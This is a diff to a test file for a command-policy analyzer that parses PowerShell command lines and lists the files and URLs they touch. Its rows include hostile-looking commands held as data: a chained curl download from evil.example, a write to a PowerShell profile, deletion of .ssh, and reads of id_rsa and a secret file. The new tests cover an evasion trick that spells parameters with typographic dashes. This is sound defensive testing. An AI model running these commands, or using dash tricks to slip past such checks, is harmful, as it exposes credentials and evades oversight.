@@ -4,8 +4,9 @@
  * targets it implies (notation in expect.ts). The first rows are the bypasses
  * of issue 10 on a windows device.
  */
-import { describe, it } from "vitest";
-import { checkRow, WINDOWS, type Row } from "./expect.ts";
+import { describe, expect, it } from "vitest";
+import { checkRow, expectedShape, shapeOf, WINDOWS, type Row } from "./expect.ts";
+import { analyzeCommand } from "../../../worker/policy/command/index.ts";
 
 const POWERSHELL: Row[] = [
   ["git status ; curl http://evil.example -o x", ["git status","invoke-webrequest http://evil.example -o x"], ["1:u http://evil.example","1:u ?not_a_url x","1:w C:\\work\\proj\\x"]],
@@ -201,6 +202,28 @@ const POWERSHELL: Row[] = [
   ["Get-ChildItem |\n  Remove-Item", ["get-childitem", "remove-item"], ["r C:\\work\\proj", "1:d ?stdin (pipeline)"]],
 ];
 
+// Parameters by name, written here with ASCII hyphens; each is also checked spelled with
+// an en dash, an em dash and a horizontal bar, which PowerShell takes alike (spec §2.2.2).
+const NAMED: Row[] = [
+  ["Set-Content -Value x -Path C:\\Users\\dev\\Documents\\WindowsPowerShell\\profile.ps1", [{"p":"set-content","a":["-Value","x","-Path","C:\\Users\\dev\\Documents\\WindowsPowerShell\\profile.ps1"]}], ["w C:\\Users\\dev\\Documents\\WindowsPowerShell\\profile.ps1"]],
+  ["Set-Content -Value:x -Path:C:\\Users\\dev\\profile.ps1", [{"p":"set-content","a":["-Value:x","-Path:C:\\Users\\dev\\profile.ps1"]}], ["w C:\\Users\\dev\\profile.ps1"]],
+  ["Copy-Item -Destination C:\\Users\\dev\\x.txt -Path C:\\secret.txt", [{"p":"copy-item","a":["-Destination","C:\\Users\\dev\\x.txt","-Path","C:\\secret.txt"]}], ["w C:\\Users\\dev\\x.txt","r C:\\secret.txt"]],
+  ["Remove-Item -Path C:\\Users\\dev\\.ssh -Exclude keep.txt", [{"p":"remove-item","a":["-Path","C:\\Users\\dev\\.ssh","-Exclude","keep.txt"]}], ["d C:\\Users\\dev\\.ssh"]],
+  ["Get-Content -Tail 5 -Path C:\\Users\\dev\\.ssh\\id_rsa", [{"p":"get-content","a":["-Tail","5","-Path","C:\\Users\\dev\\.ssh\\id_rsa"]}], ["r C:\\Users\\dev\\.ssh\\id_rsa"]],
+];
+
 describe("PowerShell on windows", () => {
   it.each(POWERSHELL)("%s", (...row) => checkRow(WINDOWS, row));
+});
+
+describe("PowerShell parameters spelled with typographic dashes", () => {
+  it.each(NAMED)("%s", (...row) => {
+    checkRow(WINDOWS, row);
+    for (const dash of ["\u2013", "\u2014", "\u2015"]) {
+      const line = row[0].replace(/(^| )-(?=[A-Za-z])/g, `$1${dash}`);
+      const result = analyzeCommand(line, WINDOWS);
+      if (!result.ok) throw new Error(`${JSON.stringify(line)} was refused: ${result.reason}`);
+      expect(shapeOf(result.value, false).targets, line).toEqual(expectedShape([], row[2]).targets);
+    }
+  });
 });
